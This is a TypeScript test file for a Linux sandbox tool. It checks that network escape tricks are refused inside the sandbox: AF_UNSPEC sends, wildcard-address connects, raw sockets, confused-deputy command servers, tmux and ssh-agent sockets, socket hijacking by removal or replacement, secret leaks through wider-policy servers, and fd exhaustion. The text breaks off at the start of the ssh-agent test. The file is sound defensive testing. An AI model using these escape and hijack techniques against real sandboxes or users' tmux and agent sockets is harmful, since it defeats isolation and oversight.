/**
 * Network escapes (issue 11, items 4 and 5), through `./bin/sbx exec` on the real kernel.
 * Every trick is first shown to work OUTSIDE the sandbox; every denial sits next to its
 * allowed twin in the same test, so a sandbox that refuses everything cannot pass.
 *
 *   - the family is the socket's: AF_UNSPEC sendto/sendmsg/sendmmsg on a UDP socket is IPv4
 *   - 0.0.0.0 and [::] are the local host
 *   - serving (bind/listen) is decided; ephemeral ports for clients keep working
 *   - raw and packet sockets are refused
 *   - confused deputies: Unix-socket servers outside the sandbox (a command-running server,
 *     tmux, ssh-agent) are refused unless named; the same server started inside is reachable
 *   - sbx's own filtering proxy serves its own sandbox only
 */
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { execa, execaSync, type Subprocess } from 'execa';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { fixture, fixturesBin, run, sbxBin, sbxExec, servedBySupervisor, tempWorld, type Result } from './exec-helpers.js';
import { tcpServers, udpServers, writeHostsFile, type Servers } from './net-helpers.js';

const world = tempWorld('sbx-escape-net-');
servedBySupervisor(world);
const tag = `${process.pid}-${Date.now() % 100000}`;
const isRoot = process.getuid?.() === 0;
/** Fixtures stay runnable under --deny-all / --deny-read. */
const RUNNABLE = `--allow-read=${fixturesBin}`;
const inside = (flags: string[], argv: string[], env: Record<string, string> = world.env): Promise<Result> =>
  sbxExec([...flags, '--', ...argv], { env, cwd: world.dir });
const outside = (argv: string[], env: Record<string, string> = world.env): Promise<Result> =>
  run(argv[0]!, argv.slice(1), { env, cwd: world.dir });
const has = (cmd: string) => execaSync('sh', ['-c', `command -v ${cmd}`], { reject: false }).exitCode === 0;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const children: Subprocess[] = [];

/** A long-running process; resolves once a line of its stdout matches `ready`. */
function background(argv: string[], ready: RegExp, env: Record<string, string> = world.env): Promise<{ child: Subprocess; out: () => string }> {
  // buffer: false: output is read below as it comes; reject: false: afterAll kills them.
  const child = execa(argv[0]!, argv.slice(1), { env, extendEnv: false, cwd: world.dir, stdin: 'ignore', buffer: false, reject: false });
  children.push(child);
  let out = '';
  return new Promise((resolveReady, reject) => {
    const timer = setTimeout(() => reject(new Error(`${argv.join(' ')} never printed ${ready}: ${out}`)), 20_000);
    const check = () => {
      if (ready.test(out)) {
        clearTimeout(timer);
        resolveReady({ child, out: () => out });
      }
    };
    child.stdout!.setEncoding('utf8').on('data', (d: string) => ((out += d), check()));
    child.stderr!.setEncoding('utf8').on('data', (d: string) => (out += d));
    child.once('exit', () => {
      clearTimeout(timer);
      if (!ready.test(out)) reject(new Error(`${argv.join(' ')} exited: ${out}`));
    });
  });
}

/** Resolves when the process has exited (at once if it already has). */
const exited = (child: Subprocess) =>
  new Promise<void>((r) => (child.exitCode !== null || child.signalCode !== null ? r() : child.once('exit', () => r())));

/** A free TCP port on both loopback addresses (nothing listens on it afterwards). */
async function freePort(): Promise<number> {
  for (;;) {
    const s = createServer();
    await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
    const port = (s.address() as { port: number }).port;
    // Free on ::1 too: the kernel hands recent ports out again, and a test's server on the other
    // family may still be going.
    const six = createServer();
    const free6 = await new Promise<boolean>((r) => six.once('error', () => r(false)).listen(port, '::1', () => r(true)));
    if (free6) await new Promise<void>((r) => six.close(() => r()));
    await new Promise<void>((r) => s.close(() => r()));
    if (free6) return port;
  }
}

/** Connects from outside (this test process) and returns what the server says, or the error code. */
function fetchLine(port: number, host = '127.0.0.1'): Promise<string> {
  return new Promise((resolveLine) => {
    const s = connect({ host, port });
    let data = '';
    s.setTimeout(5000, () => (s.destroy(), resolveLine(`timeout ${data}`)));
    s.on('data', (d) => (data += d.toString()));
    s.on('end', () => resolveLine(data.trim()));
    s.on('error', (e: NodeJS.ErrnoException) => resolveLine(`error ${e.code}`));
  });
}

afterAll(async () => {
  for (const c of children) c.kill('SIGKILL');
  world.cleanup();
});

describe('the family is decided by the socket, not by the sockaddr the caller wrote', () => {
  let udp: Servers;
  beforeAll(async () => {
    udp = await udpServers(['127.0.0.2', '127.0.0.3']);
  });
  afterAll(() => udp.close());

  for (const mode of ['unspec-sendto', 'unspec-sendmsg', 'unspec-sendmmsg']) {
    const verb = mode.slice('unspec-'.length);
    it(`${mode}: sin_family = AF_UNSPEC goes out as IPv4; refused to a denied port, allowed to an allowed one`, async () => {
      // Outside: the kernel sends the AF_UNSPEC datagram as IPv4 and the server answers.
      expect((await outside([fixture('net_escape'), mode, '127.0.0.3', String(udp.port)])).stdout).toBe('ok echo from 127.0.0.3\n');
      const before = udp.count('127.0.0.3');
      const denied = await inside(['--allow-net=127.0.0.2'], [fixture('net_escape'), mode, '127.0.0.3', String(udp.port)]);
      expect(denied.stdout).toMatch(new RegExp(`^error ${verb}: Permission denied`));
      expect(denied.stderr).toMatch(/sbx: denied net 127\.0\.0\.3:\d+/);
      expect(udp.count('127.0.0.3')).toBe(before);
      const allowed = await inside(['--allow-net=127.0.0.2'], [fixture('net_escape'), mode, '127.0.0.2', String(udp.port)]);
      expect(allowed.stdout).toBe('ok echo from 127.0.0.2\n');
    });
  }
});

// The engine sends every datagram itself, so a control message the kernel checks against
// the SENDER's capabilities (SO_MARK: CAP_NET_ADMIN) would get the supervisor's: a root
// supervisor has them, its root sandbox not (the launcher drops them).
describe('control messages in sends the engine makes', () => {
  let udp: Servers;
  beforeAll(async () => {
    udp = await udpServers(['127.0.0.2']);
  });
  afterAll(() => udp.close());

  it('SO_MARK is refused inside (twin: root outside sets it); IP_TOS goes out inside too', async (ctx) => {
    const ins = await inside([], [fixture('send_cmsg'), '127.0.0.2', String(udp.port)]);
    expect(ins.stdout).toBe('mark: Operation not permitted tos: ok\n');
    const out = await outside([fixture('send_cmsg'), '127.0.0.2', String(udp.port)]);
    if (!isRoot) {
      expect(out.stdout).toBe('mark: Operation not permitted tos: ok\n');
      ctx.skip('not applicable: SO_MARK needs CAP_NET_ADMIN, which only root has here (the refusal inside is checked above)');
    }
    expect(out.stdout).toBe('mark: ok tos: ok\n');
  });
});

describe('routing netlink reaches the kernel only', () => {
  it("a send to another process's netlink port is refused with a denial line (twin: outside it arrives; the kernel answers inside)", async (ctx) => {
    expect((await inside([], [fixture('netlink_port'), 'kernel'])).stdout).toBe('kernel: answered\n');
    const denied = await background([fixture('netlink_port'), 'serve'], /^port \d+/m);
    const port = /^port (\d+)/m.exec(denied.out())![1]!;
    const ins = await inside([], [fixture('netlink_port'), 'send', port]);
    expect(ins.stdout).toBe('send: Operation not permitted\n');
    expect(ins.stderr).toContain(`sbx: denied net netlink send to port ${port} (only requests to the kernel are sent)`);
    await exited(denied.child);
    expect(denied.out()).toMatch(/got nothing/);

    const reached = await background([fixture('netlink_port'), 'serve'], /^port \d+/m);
    const port2 = /^port (\d+)/m.exec(reached.out())![1]!;
    const out = await outside([fixture('netlink_port'), 'send', port2]);
    await exited(reached.child);
    if (!isRoot) {
      // The kernel lets only root send routing netlink to another process (NL_CFG_F_NONROOT_SEND).
      expect(out.stdout).toBe('send: Operation not permitted\n');
      ctx.skip('not applicable: only root may send routing netlink to another process here (the refusal and its line inside are checked above)');
    }
    expect(out.stdout).toBe('send: ok\n');
    expect(reached.out()).toMatch(/got 20 bytes/);
  });
});

describe('0.0.0.0 and [::] are the local host', () => {
  let tcp: Servers;
  beforeAll(async () => {
    tcp = await tcpServers({ '127.0.0.1': 'hello from v4 localhost', '::1': 'hello from v6 localhost' });
  });
  afterAll(() => tcp.close());

  it('connect to 0.0.0.0:P and [::]:P reaches localhost:P outside; refused inside unless localhost:P is allowed', async () => {
    const p = String(tcp.port);
    expect((await outside([fixture('net_client'), 'tcp', '0.0.0.0', p])).stdout).toBe('ok hello from v4 localhost\n');
    expect((await outside([fixture('net_client'), 'tcp', '::', p])).stdout).toBe('ok hello from v6 localhost\n');
    const v4 = tcp.count('127.0.0.1');
    const v6 = tcp.count('::1');
    for (const addr of ['0.0.0.0', '::', '::ffff:0.0.0.0']) {
      const denied = await inside(['--allow-net=127.0.0.2'], [fixture('net_client'), 'tcp', addr, p]);
      expect(denied.stdout).toMatch(/^error connect: Permission denied/);
    }
    expect(tcp.count('127.0.0.1')).toBe(v4);
    expect(tcp.count('::1')).toBe(v6);
    const twin = [`--allow-net=localhost:${p}`];
    expect((await inside(twin, [fixture('net_client'), 'tcp', '0.0.0.0', p])).stdout).toBe('ok hello from v4 localhost\n');
    expect((await inside(twin, [fixture('net_client'), 'tcp', '::', p])).stdout).toBe('ok hello from v6 localhost\n');
  });
});

describe('serving: bind and listen are decided when the network is restricted', () => {
  it('--deny-net refuses bind; a rule naming the address (localhost:P) lets it serve; no restriction serves', async () => {
    const port = await freePort();
    // Outside, the fixture serves.
    const out = await background([fixture('net_escape'), 'serve', '127.0.0.1', String(port)], /listening/);
    expect(await fetchLine(port)).toBe('served by the sandbox');
    await exited(out.child);

    const denied = await inside(['--deny-net'], [fixture('net_escape'), 'serve', '127.0.0.1', String(port)]);
    expect(denied.stdout).toMatch(/^error bind: Permission denied/);
    expect(denied.stderr).toMatch(/sbx: denied net serve 127\.0\.0\.1:\d+ \(--deny-net\)/);
    expect(await fetchLine(port)).toBe('error ECONNREFUSED');

    const named = await background([sbxBin, 'exec', `--allow-net=localhost:${port}`, '--', fixture('net_escape'), 'serve', '127.0.0.1', String(port)], /listening/);
    expect(await fetchLine(port)).toBe('served by the sandbox');
    await exited(named.child);

    const open = await background([sbxBin, 'exec', '--', fixture('net_escape'), 'serve', '0.0.0.0', String(port)], /listening/);
    expect(await fetchLine(port)).toBe('served by the sandbox');
    await exited(open.child);
  });

  it('the wildcard address needs a rule for every address (*:P); localhost:P does not cover it', async () => {
    const port = await freePort();
    for (const addr of ['0.0.0.0', '::']) {
      const denied = await inside([`--allow-net=localhost:${port}`], [fixture('net_escape'), 'serve', addr, String(port)]);
      expect(denied.stdout).toMatch(/^error bind: Permission denied/);
    }
    const any = await background([sbxBin, 'exec', `--allow-net=*:${port}`, '--', fixture('net_escape'), 'serve', '::', String(port)], /listening/);
    expect(await fetchLine(port)).toBe('served by the sandbox');
    await exited(any.child);
  });

  it('listen() on an unbound socket (the kernel picks a wildcard port) is refused under --deny-net, allowed without', async () => {
    expect((await inside(['--deny-net'], [fixture('net_escape'), 'listen-unbound'])).stdout).toMatch(/^error listen: Permission denied/);
    expect((await inside(['--allow-net=localhost'], [fixture('net_escape'), 'listen-unbound'])).stdout).toMatch(/^error listen: Permission denied/);
    expect((await inside([], [fixture('net_escape'), 'listen-unbound'])).stdout).toBe('ok listening\n');
  });

  it('a UDP client binding port 0 first (like DNS resolvers) works where its destination is allowed', async () => {
    const udp = await udpServers(['127.0.0.2', '127.0.0.3']);
    try {
      const p = String(udp.port);
      expect((await inside(['--allow-net=127.0.0.2'], [fixture('net_escape'), 'udp-bind0', '127.0.0.2', p])).stdout).toBe('ok echo from 127.0.0.2\n');
      expect((await inside(['--allow-net=127.0.0.2'], [fixture('net_client'), 'udp-sendto', '127.0.0.2', p])).stdout).toBe('ok echo from 127.0.0.2\n');
      expect((await inside(['--allow-net=127.0.0.2'], [fixture('net_escape'), 'udp-bind0', '127.0.0.3', p])).stdout).toMatch(/^error sendto: Permission denied/);
      // With no destination allowed at all, there is nothing to bind an ephemeral port for.
      expect((await inside(['--deny-net'], [fixture('net_escape'), 'udp-bind0', '127.0.0.2', p])).stdout).toMatch(/^error bind: Permission denied/);
      // The same in sbx exec's own process (this file's sandboxes are otherwise served by a
      // supervisor, whose policies all allow the session's proxy: that must not count).
      const own = { ...world.env, SBX_NO_FAST: '1' };
      expect((await inside(['--deny-net'], [fixture('net_escape'), 'udp-bind0', '127.0.0.2', p], own)).stdout).toMatch(/^error bind: Permission denied/);
      expect(udp.count('127.0.0.3')).toBe(0);
    } finally {
      await udp.close();
    }
  });

  it('a pathname unix bind creates a file: decided by the write policy', async () => {
    const denyDir = join(world.dir, 'no-write');
    const okDir = join(world.dir, 'ok-write');
    mkdirSync(denyDir);
    mkdirSync(okDir);
    const denied = await inside(['--deny-write', `--allow-write=${okDir}`], [fixture('net_escape'), 'unix-bind', join(denyDir, 's.sock')]);
    expect(denied.stdout).toMatch(/^error bind: Permission denied/);
    expect(denied.stderr).toMatch(/denied write .*no-write\/s\.sock/);
    expect(existsSync(join(denyDir, 's.sock'))).toBe(false);
    const ok = await inside(['--deny-write', `--allow-write=${okDir}`], [fixture('net_escape'), 'unix-bind', join(okDir, 's.sock')]);
    expect(ok.stdout).toBe('ok bound\n');
    expect(existsSync(join(okDir, 's.sock'))).toBe(true);
  });
});

describe('raw and packet sockets', () => {
  // Outside they need CAP_NET_RAW: root, or root of a user namespace. Each runs in a network
  // namespace the test creates (loopback up), so nothing touches the host's network.
  const inNetns = (argv: string[]) => outside(['unshare', ...(isRoot ? ['-n'] : ['-rn']), 'sh', '-c', `ip link set lo up && exec "$@"`, 'sh', ...argv]);

  it('raw ICMP and AF_PACKET sockets work outside (with the capability) and are refused inside', async () => {
    const raw = await inNetns([fixture('net_escape'), 'raw']);
    const packet = await inNetns([fixture('net_escape'), 'packet']);
    expect(raw.stdout).toBe('ok raw icmp sent\n');
    expect(packet.stdout).toBe('ok packet socket\n');
    // Inside, with the same capability (same namespace setup around sbx): refused.
    const rawIn = await inNetns([sbxBin, 'exec', '--', fixture('net_escape'), 'raw']);
    expect(rawIn.stdout).toMatch(/^error socket: Operation not permitted/);
    const packetIn = await inNetns([sbxBin, 'exec', '--', fixture('net_escape'), 'packet']);
    expect(packetIn.stdout).toMatch(/^error socket: Address family not supported/);
    // Twin: the same sandbox in the same namespace setup may use an ordinary UDP socket.
    const udpIn = await inNetns([sbxBin, 'exec', '--', fixture('net_escape'), 'udp-bind0', '127.0.0.1', '9']);
    expect(udpIn.stdout).not.toMatch(/^error (socket|bind|sendto)/);
  });
});

describe('confused deputies: Unix-socket servers outside the sandbox', () => {
  const sock = join(world.dir, 'cmd.sock');
  const abstract = `@sbx-escape-net-${tag}`;
  const mark = (name: string) => join(world.dir, `mark-${name}`);
  const inDir = join(world.dir, 'in');

  beforeAll(async () => {
    mkdirSync(inDir);
    await background([fixture('cmd_server'), 'serve', sock], /ready/);
    await background([fixture('cmd_server'), 'serve', abstract], /ready/);
  });

  it('a command-running server started outside: works outside, refused inside (--deny-all and default policy), allowed when named', async () => {
    for (const target of [sock, abstract]) {
      const key = target === sock ? 'path' : 'abstract';
      expect((await outside([fixture('cmd_server'), 'run', target, `echo outside > ${mark(`${key}-0`)}`])).stdout).toMatch(/^ok ran:/);
      expect(existsSync(mark(`${key}-0`))).toBe(true);
      for (const flags of [['--deny-all', RUNNABLE], []]) {
        const denied = await inside(flags, [fixture('cmd_server'), 'run', target, `echo pwned > ${mark(`${key}-1`)}`]);
        expect(denied.stdout).toMatch(/^error connect: Permission denied/);
        expect(denied.stderr).toMatch(/sbx: denied unix .*a server outside this sandbox/);
      }
      await sleep(100);
      expect(existsSync(mark(`${key}-1`))).toBe(false);
      const named = await inside(['--deny-all', RUNNABLE, `--allow-net=${target}`], [fixture('cmd_server'), 'run', target, `echo named > ${mark(`${key}-2`)}`]);
      expect(named.stdout).toMatch(/^ok ran:/);
      expect(readFileSync(mark(`${key}-2`), 'utf8')).toBe('named\n');
    }
  });

  it('the same server started inside the same session is reachable (pathname and abstract)', async () => {
    const insock = join(inDir, 'cmd.sock');
    const script = (s: string, m: string) =>
      `${fixture('cmd_server')} serve ${s} & pid=$!; for i in $(seq 50); do ${fixture('cmd_server')} run ${s} 'echo inside > ${m}' && break; sleep 0.1; done; kill $pid`;
    const path = await inside(['--deny-all', RUNNABLE, `--allow-write=${inDir}`], ['sh', '-c', script(insock, join(inDir, 'mark-path'))]);
    expect(path.stdout).toMatch(/^ok ran: echo inside/m);
    expect(readFileSync(join(inDir, 'mark-path'), 'utf8')).toBe('inside\n');
    // An abstract name: serving on one under a restricted network needs it named, so this
    // session's network is open; the outside twin under the same policy is refused above.
    const abs = `${abstract}-in`;
    const ab = await inside(['--deny-write', `--allow-write=${inDir}`], ['sh', '-c', script(abs, join(inDir, 'mark-abstract'))]);
    expect(ab.stdout).toMatch(/^ok ran: echo inside/m);
    expect(readFileSync(join(inDir, 'mark-abstract'), 'utf8')).toBe('inside\n');
    const outsideTwin = await inside(['--deny-write', `--allow-write=${inDir}`], [fixture('cmd_server'), 'run', abstract, 'true']);
    expect(outsideTwin.stdout).toMatch(/^error connect: Permission denied/);
  });

  // A server the session started under a wider policy (a tmux, a command-running service the
  // shell started) would run for a narrowed program what its own policy refuses.
  it('a nested sbx exec cannot use a server its session runs under a wider policy (pathname and abstract); the wider side itself can, and the nested one serves itself', async () => {
    const secret = join(world.dir, 'nested-secret');
    writeFileSync(secret, 'NESTED-SECRET\n');
    const wide = join(inDir, 'wide.sock');
    const wideAbstract = `${abstract}-wide`;
    const nested = `${sbxBin} exec -q --deny-read --allow-read=${inDir} ${RUNNABLE} --allow-write=${inDir} --`;
    const cmd = fixture('cmd_server');
    const script = [
      `${cmd} serve ${wide} & a=$!; ${cmd} serve ${wideAbstract} & b=$!`,
      `for s in ${wide} ${wideAbstract}; do for i in $(seq 50); do ${cmd} run $s true >/dev/null && break; sleep 0.1; done; done`,
      `for s in ${wide} ${wideAbstract}; do echo "outer $(${cmd} run $s 'cat ${secret}')"; echo "nested $(${nested} ${cmd} run $s 'cat ${secret} > ${inDir}/leak')"; done`,
      // The nested exec serves itself; the wider side cannot use its server either (it could
      // give orders to the wider client, as tmux's detach-client -E does).
      `${nested} sh -c '${cmd} serve ${inDir}/own.sock & p=$!; for i in $(seq 50); do ${cmd} run ${inDir}/own.sock "echo own > ${inDir}/own" && break; sleep 0.1; done; touch ${inDir}/own-ready; while [ ! -e ${inDir}/own-done ]; do sleep 0.05; done; kill $p' & n=$!`,
      // (bounded by the nested exec: one that fails shows its error instead of hanging the test)
      `while [ ! -e ${inDir}/own-ready ] && kill -0 $n 2>/dev/null; do sleep 0.05; done; echo "reverse $(${cmd} run ${inDir}/own.sock 'echo reverse > ${inDir}/reverse')"; touch ${inDir}/own-done; wait $n`,
      'kill $a $b',
    ].join('\n');
    // A session (nested policies are made by a supervisor), the default policy. The supervisor
    // is stopped after it, even when the test fails or times out: this file's other tests run
    // `sbx exec` in its own process, and one served by this supervisor lacks their hosts file.
    onTestFinished(async () => void (await run(sbxBin, ['daemon', 'stop', '--force'], { env: world.env, cwd: world.dir })));
    const r = await run(sbxBin, ['shell', '--', 'sh', '-c', script], { env: world.env, cwd: world.dir });
    expect(r.stdout.match(/^outer ok ran: cat /gm), r.stdout + r.stderr).toHaveLength(2);
    expect(r.stdout.match(/^nested error connect: Permission denied/gm), r.stdout + r.stderr).toHaveLength(2);
    // Logged (a session prints denials at the prompt, not on stderr).
    expect(readFileSync(join(world.env.XDG_STATE_HOME!, 'sbx', 'violations.jsonl'), 'utf8')).toMatch(/a server of this session under another policy/);
    expect(existsSync(join(inDir, 'leak'))).toBe(false);
    expect(readFileSync(join(inDir, 'own'), 'utf8')).toBe('own\n');
    expect(r.stdout).toMatch(/^reverse error connect: Permission denied/m);
    expect(existsSync(join(inDir, 'reverse'))).toBe(false);
  });

  // Audit mode lifts a policy's own refusals, not the built-in one of servers outside.
  it('mode: audit with a unix deny rule of its own still refuses a server outside (the deny is only reported); named, it is reached', async () => {
    const policyFile = (extra: string) => {
      const f = join(world.dir, `audit-unix-${Math.random().toString(36).slice(2)}.yaml`);
      writeFileSync(f, `version: 1\nmode: audit\nnet:\n  unix: { ${extra} }\n`);
      return f;
    };
    const denied = await inside(['--policy', policyFile(`deny: ["${sock}"]`)], [fixture('cmd_server'), 'run', sock, `echo audit > ${mark('audit-1')}`]);
    expect(denied.stdout).toMatch(/^error connect: Permission denied/);
    expect(denied.stderr).toMatch(/sbx: audit: would deny unix /);
    expect(denied.stderr).toMatch(/sbx: denied unix .*a server outside this sandbox/);
    await sleep(100);
    expect(existsSync(mark('audit-1'))).toBe(false);
    const named = await inside(['--policy', policyFile(`allow: ["${sock}"]`)], [fixture('cmd_server'), 'run', sock, `echo audit-named > ${mark('audit-2')}`]);
    expect(named.stdout).toMatch(/^ok ran:/);
    expect(readFileSync(mark('audit-2'), 'utf8')).toBe('audit-named\n');
  });

  it('a socket served outside cannot be removed, moved or replaced from inside, nor its directory moved: the next client outside would reach a server of the sandbox; stale and own sockets can', async () => {
    // An outside server's socket in a directory the sandbox may write (like /tmp/tmux-UID or
    // /tmp/ssh-*/agent.N under the starter's /tmp): removing it and binding there would hand
    // the user's next `tmux attach` (their keystrokes) to a server started inside.
    const dir = join(world.dir, 'hijack');
    const live = join(dir, 'live.sock');
    mkdirSync(dir);
    await background([fixture('cmd_server'), 'serve', live], /ready/);
    const flags = ['--deny-all', RUNNABLE, `--allow-write=${world.dir}`];
    // Clients may come through a symlinked directory too (/var/run -> /run).
    const viaLink = join(world.dir, 'hijack-link');
    execaSync('ln', ['-s', dir, viaLink]);
    const tries = [
      ['rm', `rm -f ${live}`],
      ['mv', `mv ${live} ${live}.old`],
      ['over', `: > ${dir}/decoy && mv -f ${dir}/decoy ${live}`],
      ['dir', `mv ${dir} ${dir}.old`],
      ['symlinked dir', `rm ${viaLink}`],
      // Made unreadable first: the engine cannot look, so it refuses (as a normal user a
      // connect to a mode-000 socket fails, and an unreadable directory cannot be listed).
      ['mode 000 socket', `chmod 000 ${live}; rm -f ${live}`],
      ['mode 000 directory', `chmod 000 ${dir}; mv ${dir} ${dir}.old`],
    ];
    for (const [name, sh] of tries) {
      const r = await inside(flags, ['sh', '-c', sh!]);
      execaSync('chmod', ['755', dir]);
      execaSync('chmod', ['777', live]);
      expect(r.code, `${name}: ${r.stderr}`).not.toBe(0);
      expect(r.stderr, name).toMatch(/sbx: denied (unix .*(served outside this sandbox|cannot tell whether a server outside)|write .*unreadable to check what it holds)/);
      // Still the outside server's: a client outside reaches it, by both paths.
      for (const path of [live, join(viaLink, 'live.sock')])
        expect((await outside([fixture('cmd_server'), 'run', path, 'true'])).stdout, `${name} ${path}`).toMatch(/^ok ran:/);
    }
    // Twin: a symlink to a directory no server answers in goes.
    const plain = join(world.dir, 'plain-link');
    mkdirSync(join(world.dir, 'plain-target', 'sub'), { recursive: true });
    execaSync('ln', ['-s', join(world.dir, 'plain-target'), plain]);
    expect((await inside(flags, ['sh', '-c', `rm ${plain} && echo removed`])).stdout).toContain('removed');
    // Twins. A stale socket (its server gone, the file left) goes:
    const stale = join(dir, 'stale.sock');
    const server = await background([fixture('cmd_server'), 'serve', stale], /ready/);
    server.child.kill('SIGKILL');
    await exited(server.child);
    expect(existsSync(stale)).toBe(true);
    const gone = await inside(flags, ['sh', '-c', `rm -f ${stale} && echo removed`]);
    expect(gone.stdout, gone.stderr).toContain('removed');
    expect(existsSync(stale)).toBe(false);
    // The session's own server's socket, removed while it serves:
    const own = join(dir, 'own.sock');
    const script = `${fixture('cmd_server')} serve ${own} & pid=$!; for i in $(seq 50); do [ -S ${own} ] && break; sleep 0.1; done; rm ${own} && echo removed; kill $pid`;
    const mine = await inside(flags, ['sh', '-c', script]);
    expect(mine.stdout, mine.stderr).toContain('removed');
    // Outside, the kernel lets the live one go (the refusal above is sbx's).
    const out = await outside(['sh', '-c', `mv ${live} ${live}.moved && echo moved`]);
    expect(out.stdout).toContain('moved');
  });

  it.skipIf(!isRoot)('root only: a server the supervisor cannot see is still found (another network namespace, an overlay mount whose device stat does not report)', async () => {
    // sock_diag lists the supervisor's network namespace only (a container's or a
    // PrivateNetwork= service's server is elsewhere), and reports the filesystem's own device,
    // which stat does not give on overlayfs or btrfs subvolumes.
    const flags = ['--deny-all', RUNNABLE, `--allow-write=${world.dir}`];
    const ours = children.length; // the servers this test starts (the section's own stay)
    const netns = join(world.dir, 'netns');
    mkdirSync(netns);
    const inNs = join(netns, 'live.sock');
    await background(['unshare', '-n', fixture('cmd_server'), 'serve', inNs], /ready/);
    const lower = join(world.dir, 'ovl-lower'), upper = join(world.dir, 'ovl-up'), merged = join(world.dir, 'ovl');
    mkdirSync(lower);
    mkdirSync(upper);
    mkdirSync(merged);
    execaSync('mount', ['-t', 'tmpfs', 'tmpfs', upper]);
    mkdirSync(join(upper, 'u'));
    mkdirSync(join(upper, 'w'));
    execaSync('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${lower},upperdir=${join(upper, 'u')},workdir=${join(upper, 'w')}`, merged]);
    try {
      const inOvl = join(merged, 'live.sock');
      await background([fixture('cmd_server'), 'serve', inOvl], /ready/);
      for (const live of [inNs, inOvl]) {
        const r = await inside(flags, ['sh', '-c', `rm -f ${live}`]);
        expect(r.code, `${live}: ${r.stderr}`).not.toBe(0);
        expect(r.stderr).toMatch(/sbx: denied unix .*served outside this sandbox/);
        expect((await outside([fixture('cmd_server'), 'run', live, 'true'])).stdout, live).toMatch(/^ok ran:/);
      }
      // Twin: a stale one on the overlay goes.
      const stale = join(merged, 'stale.sock');
      const server = await background([fixture('cmd_server'), 'serve', stale], /ready/);
      server.child.kill('SIGKILL');
      await exited(server.child);
      expect((await inside(flags, ['sh', '-c', `rm -f ${stale} && echo removed`])).stdout).toContain('removed');
    } finally {
      for (const c of children.splice(ours)) c.kill('SIGKILL');
      execaSync('umount', ['-l', merged], { reject: false });
      execaSync('umount', ['-l', upper], { reject: false });
    }
  });

  it("sends that block cannot take the supervisor's fds and threads: beyond a budget they fail at once, and the socket check still refuses", { timeout: 120_000 }, async () => {
    // Each blocked send holds our copy of its socket and of every fd it passes, on a helper
    // thread. Unbounded, a sandbox ran the supervisor out of fds, and the served-socket check
    // then failed open (a live outside socket was unlinked and taken over).
    const dir = join(world.dir, 'pileup');
    const live = join(dir, 'live.sock');
    mkdirSync(dir);
    await background([fixture('cmd_server'), 'serve', live], /ready/);
    const r = await inside(['--deny-all', RUNNABLE, `--allow-write=${world.dir}`, '--allow-read=/etc/hostname'], [fixture('blocked_sends'), '253', live]);
    const lines = Object.fromEntries(r.stdout.trim().split('\n').map((l) => [l.split(':')[0], l.slice(l.indexOf(':') + 2)]));
    expect(lines.big, r.stdout + r.stderr).toMatch(/^8 ENOBUFS$/); // 2048 passed fds: 8 sends of 253
    expect(lines.small, r.stdout).toMatch(/^\d+ EAGAIN$/);
    expect(Number(lines.big!.split(' ')[0]) + Number(lines.small!.split(' ')[0])).toBe(256); // per session
    expect(lines.unlink).toBe('EACCES');
    expect(lines.open).toBe('ok');
    // Twin: every blocked send went through once its peer read.
    expect(lines.released).toMatch(/^(\d+) of \1 sent$/);
    expect((await outside([fixture('cmd_server'), 'run', live, 'true'])).stdout).toMatch(/^ok ran:/);
  });

  it('FIFO opens waiting for a writer are capped the same way (each holds a supervisor thread); released ones open', { timeout: 60_000 }, async () => {
    const fifo = join(world.dir, 'pile.fifo');
    execaSync('mkfifo', [fifo]);
    const r = await inside(['--deny-all', RUNNABLE, `--allow-write=${world.dir}`], [fixture('fifo_pile'), '300', fifo]);
    const lines = Object.fromEntries(r.stdout.trim().split('\n').map((l) => [l.split(':')[0], l.slice(l.indexOf(':') + 2)]));
    expect(lines.refused, r.stdout + r.stderr).toBe('44 ENFILE');
    expect(lines.waiting).toBe('256');
    // Twin: each waiting one opened once a writer came.
    expect(lines.released).toBe('256');
  });

  it('sbx check net SOCKET names the process serving it and why it is refused', async () => {
    const r = await run(sbxBin, ['check', 'net', sock], { env: world.env, cwd: world.dir });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^denied: unix /);
    expect(r.stdout).toMatch(/served by pid \d+ \(.*cmd_server\), outside any sandbox/);
    expect(r.stdout).toMatch(/confused deputy/);
  });

  it.runIf(has('tmux'))('tmux -S SOCK new-window CMD: a tmux server started outside is refused, allowed when named; one started inside works', async () => {
    const tsock = join(world.dir, 'tmux.sock');
    const env = { ...world.env, TERM: 'xterm' };
    execaSync('tmux', ['-S', tsock, 'new-session', '-d', 'sleep 60'], { env, extendEnv: false });
    try {
      execaSync('tmux', ['-S', tsock, 'new-window', `echo outside > ${mark('tmux-0')}`], { env, extendEnv: false });
      for (let i = 0; i < 50 && !existsSync(mark('tmux-0')); i++) await sleep(100);
      expect(existsSync(mark('tmux-0'))).toBe(true);
      const denied = await inside(['--deny-all', RUNNABLE], ['tmux', '-S', tsock, 'new-window', `echo pwned > ${mark('tmux-1')}`], env);
      expect(denied.code).not.toBe(0);
      expect(denied.stderr).toMatch(/Permission denied/);
      const named = await inside(['--deny-all', RUNNABLE, `--allow-net=${tsock}`], ['tmux', '-S', tsock, 'new-window', `echo named > ${mark('tmux-2')}`], env);
      expect(named.code).toBe(0);
      for (let i = 0; i < 50 && !existsSync(mark('tmux-2')); i++) await sleep(100);
      expect(readFileSync(mark('tmux-2'), 'utf8')).toBe('named\n');
      expect(existsSync(mark('tmux-1'))).toBe(false);
    } finally {
      execaSync('tmux', ['-S', tsock, 'kill-server'], { env, extendEnv: false, reject: false });
    }
    // A tmux server the sandbox starts itself (it daemonizes; the engine saw its bind).
    const isock = join(inDir, 'tmux.sock');
    const m = join(inDir, 'mark-tmux');
    const own = await inside(['--deny-all', RUNNABLE, `--allow-write=${inDir}`], ['sh', '-c', `tmux -S ${isock} new-session -d 'sleep 30' && tmux -S ${isock} new-window 'echo inside > ${m}'; sleep 0.5; tmux -S ${isock} kill-server`], env);
    expect(own.stderr).not.toMatch(/denied unix/);
    for (let i = 0; i < 30 && !existsSync(m); i++) await sleep(100);
    expect(readFileSync(m, 'utf8')).toBe('inside\n');
  });

  it.runIf(has('ssh-agent') && has('ssh-add') && has('ssh-keygen'))('an ssh-agent started outside: ssh-add -l fails inside unless the socket is named', async () => {
    const agent = join(world.dir, 'agent.sock');
